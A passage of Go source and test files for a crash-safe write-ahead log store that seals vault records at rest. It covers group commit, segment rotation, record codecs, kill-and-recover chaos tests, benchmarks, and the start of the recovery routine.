	return s.enqueue(pending{typ: recVault, payload: sealed, vlt: r})
}

// AppendPolicy queues a policy op.
func (s *Store) AppendPolicy(op PolicyOp) Ticket {
	p, err := encodePolicy(op)
	if err != nil {
		return failedTicket(err)
	}
	return s.enqueue(pending{typ: recPolicy, payload: p, pol: op})
}

func failedTicket(err error) Ticket {
	return Ticket{err: err}
}

// enqueue assigns the LSN and queues the record.
func (s *Store) enqueue(p pending) Ticket {
	s.mu.Lock()
	switch {
	case s.opts.ReadOnly:
		s.mu.Unlock()
		return failedTicket(ErrReadOnly)
	case s.closed:
		s.mu.Unlock()
		return failedTicket(ErrClosed)
	case s.failed != nil:
		err := s.failed
		s.mu.Unlock()
		return failedTicket(err)
	}
	s.nextLSN++
	p.lsn = s.nextLSN
	if s.queue == nil && s.spare != nil {
		s.queue, s.spare = s.spare[:0], nil
	}
	s.queue = append(s.queue, p)
	s.mu.Unlock()
	select {
	case s.notify <- struct{}{}:
	default:
	}
	return Ticket{s: s, lsn: p.lsn}
}

// committer is the group-commit loop: drain everything queued, commit it
// with one write + one fsync, auto-snapshot if due, then release the
// batch's waiters (in that order, so a test driving appends one at a time
// observes a deterministic filesystem operation sequence).
func (s *Store) committer() {
	defer close(s.donec)
	for {
		select {
		case <-s.notify:
		case <-s.stopc:
			s.drainOnce()
			return
		}
		if s.opts.CommitInterval > 0 {
			time.Sleep(s.opts.CommitInterval)
		}
		s.drainOnce()
	}
}

// drainOnce commits one batch if anything is queued.
func (s *Store) drainOnce() {
	s.mu.Lock()
	batch := s.queue
	s.queue = nil
	s.mu.Unlock()
	if len(batch) == 0 {
		return
	}
	err := s.commit(batch)
	if err == nil {
		// Snapshot before acknowledging: keeps the filesystem op sequence a
		// pure function of the record sequence.
		err = s.maybeAutoSnapshot()
	}
	if err != nil {
		s.fail(err)
		return
	}
	s.mu.Lock()
	s.waterLSN = batch[len(batch)-1].lsn
	close(s.epoch)
	s.epoch = make(chan struct{})
	s.spare = batch[:0]
	s.mu.Unlock()
}

// maybeAutoSnapshot snapshots when enough records accumulated since the
// last one.
func (s *Store) maybeAutoSnapshot() error {
	if s.opts.SnapshotEvery <= 0 {
		return nil
	}
	s.commitMu.Lock()
	defer s.commitMu.Unlock()
	if s.sinceSnap < s.opts.SnapshotEvery {
		return nil
	}
	return s.snapshotLocked()
}

// commit writes one batch: rotate if the active segment is full, then one
// buffered write and one fsync for the whole batch.
func (s *Store) commit(batch []pending) error {
	s.commitMu.Lock()
	defer s.commitMu.Unlock()
	buf := s.buf[:0]
	for i := range batch {
		p := &batch[i]
		if p.typ == recAudit {
			buf = appendAuditFrame(buf, p.lsn, p.aud)
		} else {
			buf = appendFrame(buf, p.typ, p.lsn, p.payload)
		}
	}
	s.buf = buf
	if s.segSize > 0 && s.segSize+int64(len(buf)) > s.segmentBytes() {
		if err := s.rotate(batch[0].lsn); err != nil {
			return err
		}
	}
	if _, err := s.seg.Write(buf); err != nil {
		return err
	}
	if err := s.syncSeg(); err != nil {
		return err
	}
	s.segSize += int64(len(buf))

	s.stateMu.Lock()
	for _, p := range batch {
		switch p.typ {
		case recAudit:
			s.state.Audit = append(s.state.Audit, p.aud)
		case recVault:
			s.applyVaultLocked(p.vlt)
		case recPolicy:
			s.state.Policy = append(s.state.Policy, p.pol)
		}
	}
	s.durableLSN = batch[len(batch)-1].lsn
	s.stateMu.Unlock()

	s.sinceSnap += len(batch)
	s.statMu.Lock()
	s.stats.Records += uint64(len(batch))
	s.stats.Batches++
	s.statMu.Unlock()
	return nil
}

func (s *Store) segmentBytes() int64 {
	if s.opts.SegmentBytes > 0 {
		return s.opts.SegmentBytes
	}
	return 4 << 20
}

func (s *Store) syncSeg() error {
	if err := s.seg.Sync(); err != nil {
		return err
	}
	s.statMu.Lock()
	s.stats.Syncs++
	s.statMu.Unlock()
	return nil
}

// rotate closes the active segment (already fully synced by the previous
// commit) and opens a fresh one named by the first LSN it will hold. The
// new segment is fsynced and the directory synced before any record lands
// in it: a record acknowledged from the new segment must not vanish with
// an undurable directory entry.
func (s *Store) rotate(firstLSN uint64) error {
	if err := s.seg.Sync(); err != nil {
		return err
	}
	if err := s.seg.Close(); err != nil {
		return err
	}
	return s.openSegment(firstLSN)
}

// openSegment creates and durably publishes a new active segment;
// commitMu held.
func (s *Store) openSegment(firstLSN uint64) error {
	name := filepath.Join(s.dir, fmt.Sprintf("wal-%016x.log", firstLSN))
	f, err := s.fs.OpenFile(name, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o600)
	if err != nil {
		return err
	}
	if err := f.Sync(); err != nil {
		f.Close()
		return err
	}
	if err := s.fs.SyncDir(s.dir); err != nil {
		f.Close()
		return err
	}
	s.seg, s.segName, s.segSize = f, name, 0
	return nil
}

// applyLocked folds one committed record into the in-memory state;
// stateMu held.
func (s *Store) applyLocked(val any) {
	switch v := val.(type) {
	case audit.Entry:
		s.state.Audit = append(s.state.Audit, v)
	case VaultRecord:
		s.applyVaultLocked(v)
	case PolicyOp:
		s.state.Policy = append(s.state.Policy, v)
	}
}

// applyVaultLocked upserts one vault record; stateMu held.
func (s *Store) applyVaultLocked(v VaultRecord) {
	if i, ok := s.vaultIdx[v.ID]; ok {
		s.state.Vault[i] = v
	} else {
		s.vaultIdx[v.ID] = len(s.state.Vault)
		s.state.Vault = append(s.state.Vault, v)
	}
}

// fail flips the store into its sticky failed state, drops the queue, and
// wakes every waiter (they observe the error through the watermark check).
func (s *Store) fail(err error) {
	s.mu.Lock()
	if s.failed == nil {
		s.failed = err
	}
	s.queue = nil
	close(s.epoch)
	s.epoch = make(chan struct{})
	s.mu.Unlock()
}

// Close drains outstanding appends, stops the committer, and closes the
// active segment. Safe after a failure (the drain errors out the queue).
func (s *Store) Close() error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return nil
	}
	s.closed = true
	s.mu.Unlock()
	if s.opts.ReadOnly {
		return nil
	}
	close(s.stopc)
	<-s.donec
	s.mu.Lock()
	failed := s.failed
	s.mu.Unlock()
	if s.seg != nil {
		if failed == nil {
			if err := s.seg.Sync(); err != nil {
				return err
			}
		}
		return s.seg.Close()
	}
	return nil
}
