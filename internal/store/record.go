package store

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"time"

	"tinman/internal/audit"
)

// This file holds the payload codecs. Audit entries use a hand-rolled
// binary encoding because appends are the hot path (the allocs/op and
// fsyncs/op guards in bench_guard_test.go pin it); vault records and
// policy ops are JSON — rare, administrative, and in the vault case sealed
// before framing so no cor plaintext ever reaches the disk.

// VaultRecord is the durable form of one cor — the same fields
// cor.Record persists in the legacy vault file. It is an upsert keyed by
// ID: replaying a record with a known ID replaces the earlier state.
type VaultRecord struct {
	ID          string   `json:"id"`
	Plaintext   string   `json:"plaintext"`
	Description string   `json:"description,omitempty"`
	Whitelist   []string `json:"whitelist,omitempty"`
	Bit         int      `json:"bit"`
	// Class is the sensitivity tier (empty on pre-class records: the
	// default class applies on replay).
	Class string `json:"class,omitempty"`
}

// PolicyOp is one durable policy mutation, replayed in order on recovery.
type PolicyOp struct {
	// Op is one of "bind", "revoke", "restore", "snapshot".
	Op       string `json:"op"`
	CorID    string `json:"cor_id,omitempty"`
	AppHash  string `json:"app_hash,omitempty"`
	DeviceID string `json:"device_id,omitempty"`
	// Version and Snapshot carry a whole-policy install (Op ==
	// PolicySnapshot): Snapshot is the canonical policy.Snapshot JSON and
	// Version its control-plane number, so a restart recovers the last
	// accepted document by replaying installs in order.
	Version  uint64          `json:"version,omitempty"`
	Snapshot json.RawMessage `json:"snapshot,omitempty"`
}

// vaultAD/policy op names bind sealed blobs to their role so a vault blob
// cannot be replayed as something else.
var vaultAD = []byte("tinman-store-vault")

// Policy op names.
const (
	PolicyBind     = "bind"
	PolicyRevoke   = "revoke"
	PolicyRestore  = "restore"
	PolicySnapshot = "snapshot"
)

// appendUvarint / appendString are the primitive encoders.
func appendUvarint(dst []byte, v uint64) []byte {
	return binary.AppendUvarint(dst, v)
}

func appendString(dst []byte, s string) []byte {
	dst = binary.AppendUvarint(dst, uint64(len(s)))
	return append(dst, s...)
}

// encodeAudit appends e's binary form to dst. Field order matches
// decodeAudit; times are stored as Unix nanoseconds, which round-trips the
// virtual clocks the simulations use (time.Unix(0,0).Add(d)) exactly.
func encodeAudit(dst []byte, e audit.Entry) []byte {
	dst = appendUvarint(dst, e.Seq)
	dst = appendUvarint(dst, uint64(e.Time.UnixNano()))
	dst = appendString(dst, e.AppHash)
	dst = appendString(dst, e.CorID)
	dst = appendString(dst, e.DeviceID)
	dst = appendString(dst, e.Domain)
	dst = append(dst, byte(e.Outcome))
	dst = appendString(dst, e.Detail)
	dst = appendUvarint(dst, e.DeviceSeq)
	// Policy stamp fields append at the tail: decodeAudit reads them only
	// when bytes remain, so records written before policy versioning (no
	// tail) still decode.
	dst = appendUvarint(dst, e.PolicyVersion)
	dst = appendString(dst, e.PolicyHash)
	return dst
}

type auditDecoder struct {
	buf []byte
	off int
	err error
}

func (d *auditDecoder) uvarint() uint64 {
	if d.err != nil {
		return 0
	}
	v, n := binary.Uvarint(d.buf[d.off:])
	if n <= 0 {
		d.err = fmt.Errorf("store: audit record truncated at %d", d.off)
		return 0
	}
	d.off += n
	return v
}

func (d *auditDecoder) string() string {
	n := d.uvarint()
	if d.err != nil {
		return ""
	}
	if uint64(len(d.buf)-d.off) < n {
		d.err = fmt.Errorf("store: audit record string overruns at %d", d.off)
		return ""
	}
	s := string(d.buf[d.off : d.off+int(n)])
	d.off += int(n)
	return s
}

func (d *auditDecoder) byte() byte {
	if d.err != nil {
		return 0
	}
	if d.off >= len(d.buf) {
		d.err = fmt.Errorf("store: audit record truncated at %d", d.off)
		return 0
	}
	b := d.buf[d.off]
	d.off++
	return b
}

// decodeAudit parses an encodeAudit payload.
func decodeAudit(p []byte) (audit.Entry, error) {
	d := auditDecoder{buf: p}
	e := audit.Entry{
		Seq: d.uvarint(),
	}
	nano := d.uvarint()
	e.Time = time.Unix(0, int64(nano))
	e.AppHash = d.string()
	e.CorID = d.string()
	e.DeviceID = d.string()
	e.Domain = d.string()
	e.Outcome = audit.Outcome(d.byte())
	e.Detail = d.string()
	e.DeviceSeq = d.uvarint()
	if d.err == nil && d.off < len(p) {
		// Tail present: the record was written with a policy stamp.
		e.PolicyVersion = d.uvarint()
		e.PolicyHash = d.string()
	}
	if d.err != nil {
		return audit.Entry{}, d.err
	}
	if d.off != len(p) {
		return audit.Entry{}, fmt.Errorf("store: audit record has %d trailing bytes", len(p)-d.off)
	}
	if e.Outcome > audit.OutcomeDenied {
		return audit.Entry{}, fmt.Errorf("store: audit record has invalid outcome %d", e.Outcome)
	}
	return e, nil
}

func encodeVault(r VaultRecord) ([]byte, error) { return json.Marshal(r) }
func decodeVault(p []byte) (VaultRecord, error) {
	var r VaultRecord
	err := json.Unmarshal(p, &r)
	return r, err
}
func encodePolicy(op PolicyOp) ([]byte, error) { return json.Marshal(op) }
func decodePolicy(p []byte) (PolicyOp, error) {
	var op PolicyOp
	err := json.Unmarshal(p, &op)
	return op, err
}
