package store

import (
	"context"
	"errors"
	"fmt"
	"reflect"
	"testing"

	"tinman/internal/audit"
	"tinman/internal/fault"
)

// The kill-and-recover chaos suite: a deterministic workload is run
// against fault.CrashFS with kill -9 injected at every filesystem
// operation index (so every WAL commit boundary, every snapshot step, and
// every compaction delete gets its turn), then recovered — twice, with a
// second crash injected during recovery itself on a rotating subset of
// points. Invariants checked at every crash point:
//
//   - recovery succeeds and yields a gap-free prefix of the workload per
//     record stream (audit Seq 1..k, vault upserts 1..v, policy ops 1..p);
//   - every acknowledged record (Ticket.Wait returned nil before the
//     crash) is present — zero cor loss, zero audit loss;
//   - no cor plaintext appears anywhere on the post-crash disk;
//   - resuming the workload from the recovered state and finishing it
//     yields a final state bit-identical to a fault-free control run.

const (
	chaosAudit  = 36 // audit entries in the workload
	chaosEveryV = 6  // a vault upsert + policy op every n audit entries
)

func chaosOpts(fs fault.FS) Options {
	opts := testOpts(fs)
	opts.SegmentBytes = 300 // force rotations
	opts.SnapshotEvery = 13 // force snapshots + compaction mid-workload
	return opts
}

func chaosVault(j int) VaultRecord {
	return VaultRecord{
		ID:        fmt.Sprintf("cor-%d", j),
		Plaintext: fmt.Sprintf("chaos-secret-%d-hunter2", j),
		Bit:       j,
		Whitelist: []string{"example.com"},
	}
}

func chaosPolicy(j int) PolicyOp {
	switch j % 3 {
	case 0:
		return PolicyOp{Op: PolicyRestore, DeviceID: "dev-1"}
	case 1:
		return PolicyOp{Op: PolicyBind, CorID: fmt.Sprintf("cor-%d", j), AppHash: "h"}
	default:
		return PolicyOp{Op: PolicyRevoke, DeviceID: "dev-1"}
	}
}

func chaosSecrets() []string {
	var out []string
	for j := 1; j <= chaosAudit/chaosEveryV; j++ {
		out = append(out, chaosVault(j).Plaintext)
	}
	return out
}

// acked tracks how much of each stream was acknowledged durable.
type acked struct{ audit, vault, policy int }

// runChaosWorkload resumes the deterministic workload from the recovered
// state (fromAudit/fromVault/fromPolicy entries already present) and runs
// until the first error or completion. It returns the acknowledged
// high-water marks.
func runChaosWorkload(s *Store, from acked) acked {
	ack := from
	ctx := context.Background()
	vaultDone := from.vault
	policyDone := from.policy
	// Catch up on vault/policy records whose trigger point (every
	// chaosEveryV-th audit entry) already passed before the crash.
	for j := vaultDone + 1; j <= from.audit/chaosEveryV; j++ {
		if err := s.AppendVault(chaosVault(j)).Wait(ctx); err != nil {
			return ack
		}
		ack.vault = j
		vaultDone = j
	}
	for j := policyDone + 1; j <= from.audit/chaosEveryV; j++ {
		if err := s.AppendPolicy(chaosPolicy(j)).Wait(ctx); err != nil {
			return ack
		}
		ack.policy = j
		policyDone = j
	}
	for i := from.audit + 1; i <= chaosAudit; i++ {
		if err := s.AppendAudit(entry(i)).Wait(ctx); err != nil {
			return ack
		}
		ack.audit = i
		if i%chaosEveryV == 0 {
			j := i / chaosEveryV
			if j > vaultDone {
				if err := s.AppendVault(chaosVault(j)).Wait(ctx); err != nil {
					return ack
				}
				ack.vault = j
				vaultDone = j
			}
			if j > policyDone {
				if err := s.AppendPolicy(chaosPolicy(j)).Wait(ctx); err != nil {
					return ack
				}
				ack.policy = j
				policyDone = j
			}
		}
	}
	return ack
}

// verifyPrefix checks that st is a gap-free prefix of the workload with at
// least the acknowledged records present, and returns the high-water
// marks for resuming.
func verifyPrefix(t *testing.T, tag string, st State, ack acked) acked {
	t.Helper()
	for i, e := range st.Audit {
		if want := entry(i + 1); !reflect.DeepEqual(e, want) {
			t.Fatalf("%s: audit[%d] = %+v, want %+v", tag, i, e, want)
		}
	}
	if len(st.Audit) < ack.audit {
		t.Fatalf("%s: lost acknowledged audit entries: have %d, acked %d", tag, len(st.Audit), ack.audit)
	}
	for i, r := range st.Vault {
		if want := chaosVault(i + 1); !reflect.DeepEqual(r, want) {
			t.Fatalf("%s: vault[%d] = %+v, want %+v", tag, i, r, want)
		}
	}
	if len(st.Vault) < ack.vault {
		t.Fatalf("%s: lost acknowledged cors: have %d, acked %d", tag, len(st.Vault), ack.vault)
	}
	for i, op := range st.Policy {
		if want := chaosPolicy(i + 1); !reflect.DeepEqual(op, want) {
			t.Fatalf("%s: policy[%d] = %+v, want %+v", tag, i, op, want)
		}
	}
	if len(st.Policy) < ack.policy {
		t.Fatalf("%s: lost acknowledged policy ops: have %d, acked %d", tag, len(st.Policy), ack.policy)
	}
	return acked{audit: len(st.Audit), vault: len(st.Vault), policy: len(st.Policy)}
}

// controlRun produces the fault-free final state and the total number of
// filesystem operations the full workload takes (the sweep bound).
func controlRun(t *testing.T) (State, int) {
	t.Helper()
	fs := fault.NewCrashFS(99)
	s := mustOpen(t, chaosOpts(fs))
	if got := runChaosWorkload(s, acked{}); got.audit != chaosAudit {
		t.Fatalf("control run incomplete: %+v", got)
	}
	if err := s.Close(); err != nil {
		t.Fatalf("control close: %v", err)
	}
	ops := fs.Ops()
	r := mustOpen(t, chaosOpts(fs))
	defer r.Close()
	return r.State(), ops
}

func TestChaosKillRecoverSweep(t *testing.T) {
	control, totalOps := controlRun(t)
	if totalOps < 50 {
		t.Fatalf("workload too small to sweep (%d ops)", totalOps)
	}
	secrets := chaosSecrets()

	for crashAt := 0; crashAt < totalOps; crashAt++ {
		fs := fault.NewCrashFS(99)
		fs.CrashAfter(crashAt)

		var ack acked
		s, err := Open(chaosOpts(fs))
		if err == nil {
			ack = runChaosWorkload(s, acked{})
			s.Close()
		} else if !errors.Is(err, fault.ErrCrashed) {
			t.Fatalf("crashAt=%d: pre-crash open failed oddly: %v", crashAt, err)
		}
		if !fs.Crashed() {
			// The schedule landed after the workload finished — the
			// remaining indices belong to ops that never ran.
			break
		}
		fs.Restart()

		// No cor plaintext on the post-crash disk, ever.
		if hits := fault.ScanForPlaintext(fs.DiskBytes(), secrets); len(hits) != 0 {
			t.Fatalf("crashAt=%d: plaintext on disk after crash: %v", crashAt, hits)
		}

		// Every 4th point: inject a second crash during recovery itself.
		if crashAt%4 == 0 {
			fs.CrashAfter(1 + crashAt%11)
			if _, err := Open(chaosOpts(fs)); err == nil {
				// Recovery finished before the second schedule fired; the
				// store is open and healthy — fall through via reopen below.
			}
			if fs.Crashed() {
				fs.Restart()
			} else {
				fs.CrashAfter(-1)
			}
		}

		r, err := Open(chaosOpts(fs))
		if err != nil {
			t.Fatalf("crashAt=%d: recovery failed: %v", crashAt, err)
		}
		from := verifyPrefix(t, fmt.Sprintf("crashAt=%d", crashAt), r.State(), ack)

		// Resume and finish; the final state must be bit-identical to the
		// fault-free control.
		if got := runChaosWorkload(r, from); got.audit != chaosAudit {
			t.Fatalf("crashAt=%d: resumed workload stalled at %+v", crashAt, got)
		}
		if err := r.Close(); err != nil {
			t.Fatalf("crashAt=%d: close after resume: %v", crashAt, err)
		}
		f, err := Open(chaosOpts(fs))
		if err != nil {
			t.Fatalf("crashAt=%d: final reopen: %v", crashAt, err)
		}
		final := f.State()
		f.Close()
		if !reflect.DeepEqual(final.Audit, control.Audit) {
			t.Fatalf("crashAt=%d: final audit diverges from control: %d vs %d entries",
				crashAt, len(final.Audit), len(control.Audit))
		}
		if !reflect.DeepEqual(final.Vault, control.Vault) {
			t.Fatalf("crashAt=%d: final vault diverges from control", crashAt)
		}
		if !reflect.DeepEqual(final.Policy, control.Policy) {
			t.Fatalf("crashAt=%d: final policy diverges from control", crashAt)
		}
		if hits := fault.ScanForPlaintext(fs.DiskBytes(), secrets); len(hits) != 0 {
			t.Fatalf("crashAt=%d: plaintext on disk after resume: %v", crashAt, hits)
		}
	}
}

// TestChaosCrashDuringSnapshot sweeps the crash point across an explicit
// Snapshot call — covering the windows between snapshot write, rename,
// directory sync, segment rotation, and the compaction deletes (the
// "crash between snapshot write and WAL truncation" case).
func TestChaosCrashDuringSnapshot(t *testing.T) {
	const n = 9
	secrets := chaosSecrets()
	for crashAt := 0; ; crashAt++ {
		fs := fault.NewCrashFS(42)
		opts := testOpts(fs)
		opts.SegmentBytes = 200
		s := mustOpen(t, opts)
		for i := 1; i <= n; i++ {
			wait(t, s.AppendAudit(entry(i)))
		}
		wait(t, s.AppendVault(chaosVault(1)))
		pre := fs.Ops()
		fs.CrashAfter(crashAt)
		err := s.Snapshot()
		if !fs.Crashed() {
			if err != nil {
				t.Fatalf("crashAt=%d: snapshot failed without crash: %v", crashAt, err)
			}
			if crashAt == 0 {
				t.Fatal("snapshot performed no filesystem operations")
			}
			_ = pre
			break // swept past the whole snapshot
		}
		fs.Restart()
		r, rerr := Open(opts)
		if rerr != nil {
			t.Fatalf("crashAt=%d: recovery after snapshot crash: %v", crashAt, rerr)
		}
		st := r.State()
		r.Close()
		if len(st.Audit) != n || len(st.Vault) != 1 {
			t.Fatalf("crashAt=%d: snapshot crash lost data: %d audit, %d vault",
				crashAt, len(st.Audit), len(st.Vault))
		}
		verifyPrefix(t, fmt.Sprintf("snapshot crashAt=%d", crashAt), st, acked{audit: n, vault: 1})
		if hits := fault.ScanForPlaintext(fs.DiskBytes(), secrets); len(hits) != 0 {
			t.Fatalf("crashAt=%d: plaintext after snapshot crash: %v", crashAt, hits)
		}
	}
}

// TestChaosTornTailRepairIdempotent forces a torn tail, then crashes
// recovery at every point of its repair sequence, proving the repair can
// be re-run from any intermediate disk state (the double-crash-during-
// recovery case in isolation).
func TestChaosTornTailRepairIdempotent(t *testing.T) {
	// Build a disk with a torn tail: crash mid-commit.
	build := func() *fault.CrashFS {
		fs := fault.NewCrashFS(7)
		s := mustOpen(t, testOpts(fs))
		for i := 1; i <= 5; i++ {
			wait(t, s.AppendAudit(entry(i)))
		}
		// Crash on the commit write of entry 6: the frame lands torn.
		fs.CrashAfter(1)
		s.AppendAudit(entry(6)).Wait(context.Background())
		fs.Restart()
		return fs
	}

	for crashAt := 0; ; crashAt++ {
		fs := build()
		fs.CrashAfter(crashAt)
		_, err := Open(testOpts(fs))
		if !fs.Crashed() {
			if err != nil {
				t.Fatalf("crashAt=%d: recovery failed without crash: %v", crashAt, err)
			}
			break
		}
		fs.Restart()
		r, rerr := Open(testOpts(fs))
		if rerr != nil {
			t.Fatalf("crashAt=%d: second recovery failed: %v", crashAt, rerr)
		}
		st := r.State()
		r.Close()
		if len(st.Audit) != 5 {
			t.Fatalf("crashAt=%d: %d entries after double-crash recovery, want 5", crashAt, len(st.Audit))
		}
		verifyPrefix(t, fmt.Sprintf("repair crashAt=%d", crashAt), st, acked{audit: 5})
	}
}

// TestChaosRecoveredMatchesAuditLog proves the recovered entries restore
// into audit.Log with identical anomaly detection to a log that never
// crashed (recovery idempotence at the audit layer; the node-level version
// lives in internal/node).
func TestChaosRecoveredMatchesAuditLog(t *testing.T) {
	fs := fault.NewCrashFS(11)
	s := mustOpen(t, chaosOpts(fs))
	runChaosWorkload(s, acked{})
	s.Close()

	control := audit.NewLog(nil)
	var entries []audit.Entry
	for i := 1; i <= chaosAudit; i++ {
		entries = append(entries, entry(i))
	}
	control.Restore(entries)

	r := mustOpen(t, chaosOpts(fs))
	recovered := audit.NewLog(nil)
	recovered.Restore(r.State().Audit)
	r.Close()

	if !reflect.DeepEqual(recovered.Entries(), control.Entries()) {
		t.Fatal("recovered audit entries diverge from control")
	}
	ca, ra := control.Anomalies(), recovered.Anomalies()
	if !reflect.DeepEqual(ca, ra) {
		t.Fatalf("anomaly rescans diverge: control %d, recovered %d", len(ca), len(ra))
	}
	if len(ca) == 0 {
		t.Fatal("workload produced no anomalies; the comparison is vacuous")
	}
}
