package store

import (
	"context"
	"sync"
	"testing"
	"time"

	"tinman/internal/fault"
)

// TestWALAppendAllocGuard pins the allocation cost of the append hot path
// (encode + frame + queue + ticket). The budget is deliberately loose —
// it exists to catch an accidental O(entry-size) or per-field regression,
// not to chase zero.
func TestWALAppendAllocGuard(t *testing.T) {
	fs := fault.NewCrashFS(1)
	s := mustOpen(t, testOpts(fs))
	defer s.Close()
	ctx := context.Background()
	i := 0
	avg := testing.AllocsPerRun(500, func() {
		i++
		if err := s.AppendAudit(entry(i%30 + 1)).Wait(ctx); err != nil {
			t.Fatal(err)
		}
	})
	// Currently ~6 allocs/op (payload slice, pending, ticket channel,
	// queue growth, commit bookkeeping).
	const budget = 12
	if avg > budget {
		t.Fatalf("WAL append allocates %.1f allocs/op, budget %d", avg, budget)
	}
}

// TestWALFsyncsPerOpGuard pins group commit's fsync amortization: under
// concurrent appenders the engine must need well under one fsync per
// record. (One appender waiting on every ticket degenerates to 1 fsync
// per record by design — that case is the durability floor, not a
// regression.)
func TestWALFsyncsPerOpGuard(t *testing.T) {
	fs := fault.NewCrashFS(2)
	opts := testOpts(fs)
	opts.CommitInterval = time.Millisecond
	s := mustOpen(t, opts)
	defer s.Close()

	const (
		workers = 8
		perW    = 64
	)
	var wg sync.WaitGroup
	ctx := context.Background()
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perW; i++ {
				if err := s.AppendAudit(entry(w*perW + i + 1)).Wait(ctx); err != nil {
					t.Errorf("append: %v", err)
					return
				}
			}
		}(w)
	}
	wg.Wait()
	st := s.Stats()
	if st.Records != workers*perW {
		t.Fatalf("records = %d", st.Records)
	}
	perOp := float64(st.Syncs) / float64(st.Records)
	if perOp > 0.5 {
		t.Fatalf("fsyncs/op = %.2f (%d syncs / %d records), budget 0.50", perOp, st.Syncs, st.Records)
	}
}

// BenchmarkWALAppend measures the single-appender append+fsync path
// against the in-memory crash FS (isolating engine overhead from disk
// hardware).
func BenchmarkWALAppend(b *testing.B) {
	fs := fault.NewCrashFS(1)
	s, err := Open(testOpts(fs))
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	ctx := context.Background()
	e := entry(1)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		e.Seq = uint64(i + 1)
		if err := s.AppendAudit(e).Wait(ctx); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkWALAppendGrouped measures throughput with many concurrent
// appenders sharing group commits.
func BenchmarkWALAppendGrouped(b *testing.B) {
	fs := fault.NewCrashFS(1)
	opts := testOpts(fs)
	opts.CommitInterval = 100 * time.Microsecond
	s, err := Open(opts)
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	ctx := context.Background()
	b.ReportAllocs()
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		e := entry(1)
		for pb.Next() {
			if err := s.AppendAudit(e).Wait(ctx); err != nil {
				b.Fatal(err)
			}
		}
	})
}
