package store

import (
	"errors"
	"fmt"
	iofs "io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"tinman/internal/cor"
	"tinman/internal/fault"
)

// saltFile holds the sealing salt (not secret; required to re-derive the
// vault key from the passphrase).
const saltFile = "seal.salt"

// Open recovers a store from dir and, unless ReadOnly, makes it writable:
//
//  1. load the newest snapshot that parses end-to-end (a snapshot is valid
//     iff its recSnapEnd frame is intact — a crash mid-snapshot-write
//     leaves either a .tmp or a missing end frame, both rejected);
//  2. replay every WAL segment in LSN order, skipping records the snapshot
//     already covers and enforcing gap-free LSN continuity above it;
//  3. stop at the first torn frame of the final segment (a crash
//     mid-group-commit) and repair by truncating the tail — an idempotent
//     step, so a second crash during recovery just repeats it;
//  4. delete stray .tmp files and start the group committer.
//
// A torn frame anywhere but the final segment, an LSN gap, or a sealed
// vault record that fails authentication (wrong passphrase) is
// unrepairable and fails with ErrCorrupt / cor.ErrVaultCorrupt.
func Open(opts Options) (*Store, error) {
	fsys := opts.FS
	if fsys == nil {
		fsys = fault.OS
	}
	if !opts.ReadOnly && opts.Passphrase == "" && opts.Sealer == nil {
		return nil, fmt.Errorf("store: writable store requires a passphrase (cor records are sealed at rest)")
	}
	if opts.Dir == "" {
		return nil, fmt.Errorf("store: Options.Dir is required")
	}
	if !opts.ReadOnly {
		if err := fsys.MkdirAll(opts.Dir, 0o700); err != nil {
			return nil, err
		}
	}
	s := &Store{
		fs:       fsys,
		dir:      opts.Dir,
		opts:     opts,
		notify:   make(chan struct{}, 1),
		epoch:    make(chan struct{}),
		stopc:    make(chan struct{}),
		donec:    make(chan struct{}),
		vaultIdx: make(map[string]int),
	}
	if err := s.openSealer(); err != nil {
		return nil, err
	}
	if err := s.recover(); err != nil {
		return nil, err
	}
	if !opts.ReadOnly {
		go s.committer()
	} else {
		close(s.donec)
	}
	return s, nil
}

// openSealer loads (or, on a writable store, mints) the sealing salt and
// builds the Sealer. A read-only open without a passphrase leaves sealer
// nil: vault records stay sealed and are only counted.
func (s *Store) openSealer() error {
	if s.opts.Sealer != nil {
		s.sealer = s.opts.Sealer
		return nil
	}
	path := filepath.Join(s.dir, saltFile)
	salt, err := s.fs.ReadFile(path)
	if err != nil && !errors.Is(err, iofs.ErrNotExist) {
		return err
	}
	if len(salt) != cor.SaltLen {
		// Missing, or torn by a crash before the salt's fsync completed —
		// in which case no vault record can have been sealed under it yet
		// (records are only appended after Open returns).
		if s.opts.ReadOnly {
			if s.opts.Passphrase != "" && len(salt) > 0 {
				return fmt.Errorf("store: salt file torn (%d bytes): %w", len(salt), ErrCorrupt)
			}
			return nil
		}
		fresh, err := cor.NewSealerSalt()
		if err != nil {
			return err
		}
		f, err := s.fs.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, 0o600)
		if err != nil {
			return err
		}
		if _, err := f.Write(fresh); err != nil {
			f.Close()
			return err
		}
		if err := f.Sync(); err != nil {
			f.Close()
			return err
		}
		if err := f.Close(); err != nil {
			return err
		}
		if err := s.fs.SyncDir(s.dir); err != nil {
			return err
		}
		salt = fresh
	}
	if s.opts.Passphrase == "" {
		return nil // read-only, sealed vault records skipped
	}
	sealer, err := cor.NewSealer(s.opts.Passphrase, salt)
	if err != nil {
		return err
	}
	s.sealer = sealer
	return nil
}

// recover loads the snapshot + WAL into s.state and prepares the active
// segment.
func (s *Store) recover() error {
	names, err := s.fs.ReadDirNames(s.dir)
	if err != nil {
		if s.opts.ReadOnly && errors.Is(err, iofs.ErrNotExist) {
			return fmt.Errorf("store: no store at %s: %w", s.dir, err)
		}
		return err
	}

	// 1. Newest valid snapshot wins; invalid ones (torn by a crash) are
	// removed on writable opens.
	var snapCovered []uint64
	for _, name := range names {
		if lsn, ok := parseLSNName(name, "snap-", ".db"); ok {
			snapCovered = append(snapCovered, lsn)
		}
	}
	sort.Slice(snapCovered, func(i, j int) bool { return snapCovered[i] > snapCovered[j] })
	var invalidSnaps []string
	for _, covered := range snapCovered {
		name := snapName(covered)
		ok, err := s.loadSnapshot(filepath.Join(s.dir, name), covered)
		if err != nil {
			return err // hard failure (wrong passphrase, unreadable fs)
		}
		if ok {
			s.snapLSN = covered
			break
		}
		invalidSnaps = append(invalidSnaps, name)
	}

